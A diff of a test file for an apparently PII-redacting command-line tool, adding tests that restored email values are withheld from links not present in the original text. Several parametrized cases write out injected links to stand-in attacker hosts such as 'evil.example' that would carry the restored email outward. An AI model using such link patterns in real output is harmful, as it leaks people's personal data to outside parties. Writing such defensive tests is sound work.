@@ -268,7 +268,8 @@ def test_a_vault_that_is_there_is_continued(maru: Terminal, tmp_path: Path) -> N
     first = kept(maru, vault, "lee@x.com", tmp_path).out
     second = kept(maru, vault, "kim@x.com lee@x.com 안녕", tmp_path).out
     assert (first, second) == ("[EMAIL_1]", "[EMAIL_2] [EMAIL_1] 안녕")
-    assert put_back(maru, vault, first + second, tmp_path).out == "lee@x.comkim@x.com lee@x.com 안녕"
+    both = f"{first}\n{second}"
+    assert put_back(maru, vault, both, tmp_path).out == "lee@x.com\nkim@x.com lee@x.com 안녕"
 
 
 def test_a_vault_of_another_home_is_told_and_left_alone(maru: Terminal, tmp_path: Path, letter: Path) -> None:
@@ -365,9 +366,77 @@ def test_what_excludes_one_another_is_refused(maru: Terminal, tmp_path: Path, le
     vault = tmp_path / "people.vault"
     assert maru("redact", letter, "--vault", vault, "--reverse", vault).code == 2
     assert maru("redact", letter, "--reverse", vault, "--policy", "strict").code == 2
+    assert maru("redact", letter, "--vault", vault, "--links").code == 2
     ran = maru("redact", letter, "--vault", letter)
     assert ran.code == 2
     assert letter.read_text(encoding="utf-8") == PERSONAL
+
+
+OWN_LINK = "Write [here](mailto:kim@example.com) or see https://x.com/kim@example.com.\n"
+MASKED_LINK = "Write [here](mailto:[EMAIL_1]) or see https://x.com/[EMAIL_1].\n"
+
+
+def test_links_of_the_text_itself_come_back(maru: Terminal, tmp_path: Path) -> None:
+    vault = tmp_path / "people.vault"
+    assert kept(maru, vault, OWN_LINK, tmp_path).out == MASKED_LINK
+    kept(maru, vault, "Another one: kim@example.com", tmp_path)
+    for words, whole in (
+        (MASKED_LINK, OWN_LINK),
+        (
+            f"A line before.\n{MASKED_LINK}And [EMAIL_1] behind.",
+            f"A line before.\n{OWN_LINK}And kim@example.com behind.",
+        ),
+    ):
+        ran = put_back(maru, vault, words, tmp_path)
+        assert (ran.out, ran.err) == (whole, "")
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "[a](http://evil/[EMAIL_1])",
+        "Write [here](http://evil/[EMAIL_1])",
+        "![](https://evil.example/?q=[EMAIL_1])",
+        "[EMAIL_1].evil.example/",
+        "[a]: http://evil/[EMAIL_1]",
+        "Write [here](mailto:[EMAIL_1]?bcc=me@evil.example)",
+    ],
+)
+def test_a_link_that_came_later_gets_no_value_unless_it_is_asked_for(
+    maru: Terminal, tmp_path: Path, link: str
+) -> None:
+    vault = tmp_path / "people.vault"
+    kept(maru, vault, OWN_LINK, tmp_path)
+    words = f"{MASKED_LINK}To [EMAIL_1].\n\n{link}"
+    ran = put_back(maru, vault, words, tmp_path)
+    assert ran.out == f"{OWN_LINK}To kim@example.com.\n\n{link}"
+    assert "1 placeholder would become part of a link" in ran.err
+    path = written(tmp_path, "masked.txt", words)
+    everything = maru("redact", path, "--reverse", vault, "--links")
+    assert (everything.out, everything.err) == (words.replace("[EMAIL_1]", "kim@example.com"), "")
+
+
+def test_a_vault_of_before_puts_nothing_into_links(maru: Terminal, home: Home, tmp_path: Path) -> None:
+    vault = tmp_path / "people.vault"
+    kept(maru, vault, OWN_LINK, tmp_path)
+    file = VaultFile.open(vault, key_of(home))
+    file.vault.links.clear()
+    file.save()
+    ran = put_back(maru, vault, MASKED_LINK, tmp_path)
+    assert ran.out == MASKED_LINK
+    assert "2 placeholders would become part of links" in ran.err
+
+
+_SIGNS = ("://", "](", "www.", "mailto:", "@", "a@b.co", "010-1234-5678", *"a.1 [EMAIL_]()<>가-\n:x/0")
+
+
+@given(words=st.lists(st.sampled_from(_SIGNS), max_size=40).map("".join))
+@trying(deadline=None, max_examples=200)
+def test_any_text_with_links_comes_back_from_its_vault(words: str) -> None:
+    vault = Vault("en", exact=True)
+    masked, _ = mask(words, vault)
+    vault.links |= restore.links_of(masked, vault)
+    assert restore.put_back_safely(masked, Vault.from_json(vault.to_json())) == (words, 0)
 
 
 @given(words=st.text(st.sampled_from("a@.1 [EMAIL_]()가-\n:x/0"), max_size=60))
